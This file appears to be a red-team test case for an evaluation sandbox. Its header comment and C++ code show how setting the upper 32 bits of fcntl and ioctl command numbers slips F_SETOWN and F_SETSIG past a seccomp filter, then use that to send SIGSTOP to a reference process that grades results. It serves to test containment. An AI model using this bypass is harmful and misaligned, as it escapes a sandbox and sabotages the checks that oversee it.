// ATTACK (round 18, helper-redteam18): row 2's F_SETOWN/F_SETSIG and
// FIOSETOWN/SIOCSPGRP refusals bypassed with the upper 32 bits of the
// command. containment.cc LoadCandidateSeccompFilter compares fcntl's and
// ioctl's command (argument 1) with SCMP_CMP_EQ, a 64-bit comparison, but
// the kernel declares both commands `unsigned int` (SYSCALL_DEFINE3(fcntl,
// unsigned int fd, unsigned int cmd, ...), SYSCALL_DEFINE3(ioctl, ...,
// unsigned int cmd, ...)) and drops the upper half: syscall(SYS_fcntl, fd,
// (1ULL << 32) | F_SETOWN, pid) passes the filter and IS F_SETOWN.
// (sandbox/seccomp_filter.cc masks with 0xffffffff and is not fooled.)
// Rank 0: a pipe's read end owned by a reference rank, F_SETSIG SIGSTOP,
// O_ASYNC, one byte written: SIGIO-as-SIGSTOP to the reference rank. On host
// ranks the kernel still refuses the delivery where Landlock ABI >= 6 scopes
// signals (this VM: ABI 7) or the uids differ (a root launch: ranks 65534,
// references root); cuda ranks have no Landlock and, in the executor's
// sandbox, the references' uid: there it stops or kills them (see the gtest
// r18_fcntl_owner_hi_filter_only).
// Gated: outputs are written only if a reference rank was seen stopped.
// EXPECT: WRONG_OUTPUT (the filter refuses the command whatever its upper
// bits, or the delivery is refused).
#include <signal.h>
#include <linux/sockios.h>
#include <sys/ioctl.h>
#include <sys/syscall.h>

#include "kernels/testdata/redteam/redteam.h"

static bool Attack(pkf_context* ctx) {
  if (ctx->rank != 0) return true;
  const std::vector<int> refs = rt_refs();
  if (refs.empty()) return false;
  const int ref = refs[0];
  const unsigned long long hi = 1ULL << 32;
  int p[2];
  if (pipe(p) != 0) return false;
  const long plain = syscall(SYS_fcntl, p[0], F_SETOWN, ref);
  rt_log("fcntl(F_SETOWN, ref %d): %s", ref, plain == 0 ? "ok" : strerror(errno));
  const long own = syscall(SYS_fcntl, p[0], hi | F_SETOWN, ref);
  rt_log("fcntl((1<<32)|F_SETOWN, ref %d): %s", ref, own == 0 ? "ok" : strerror(errno));
  const long got = syscall(SYS_fcntl, p[0], F_GETOWN);
  rt_log("F_GETOWN now: %ld", got);
  int one = ref;
  const long io = syscall(SYS_ioctl, p[0], hi | FIOSETOWN, &one);
  rt_log("ioctl((1<<32)|FIOSETOWN): %s", io == 0 ? "ok" : strerror(errno));
  const long sig = syscall(SYS_fcntl, p[0], hi | F_SETSIG, SIGSTOP);
  rt_log("fcntl((1<<32)|F_SETSIG, SIGSTOP): %s", sig == 0 ? "ok" : strerror(errno));
  fcntl(p[0], F_SETFL, O_ASYNC | O_NONBLOCK);
  const ssize_t w = write(p[1], "x", 1);
  (void)w;
  bool stopped = false;
  for (int i = 0; i < 50 && !stopped; ++i) {
    usleep(1000);
    stopped = rt_stat_field(ref, 3) == "T";
  }
  rt_log("reference rank %d after the SIGIO: state %s", ref, rt_stat_field(ref, 3).c_str());
  if (stopped) kill(ref, SIGCONT);  // refused by the filter; the judge would time out
  close(p[0]);
  close(p[1]);
  return got == ref && stopped;
}

RT_GATED_CANDIDATE(Attack)
